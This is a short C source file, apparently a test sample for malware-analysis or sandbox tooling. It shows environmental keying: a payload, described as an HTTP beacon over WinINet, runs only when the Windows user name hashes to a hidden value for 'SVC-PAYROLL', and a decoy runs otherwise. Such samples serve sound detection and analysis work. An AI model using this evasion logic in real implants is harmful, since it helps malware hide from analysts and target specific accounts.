/* evasion_keyed_user — keyed on the user instead of the machine (ATT&CK T1480.001): the payload
 * runs only when the upper-cased user name hashes (FNV-1a) to 0xfa36adc1 — "SVC-PAYROLL", never
 * in clear in the binary. The default environment fails it by design; only forcing the
 * comparison reveals the payload (beacon over WinINet). */
#define EVASION_BEACON_HTTP
#include "evasion.h"

#define TARGET_USER_HASH 0xfa36adc1u /* FNV-1a("SVC-PAYROLL") */

int main(void) {
  char user[256];
  DWORD size = sizeof user;
  if (GetUserNameA(user, &size) && evasion_fnv1a_upper(user) == TARGET_USER_HASH) {
    evasion_payload("evasion_keyed_user");
  } else {
    evasion_decoy("evasion_keyed_user");
  }
  return 0;
}
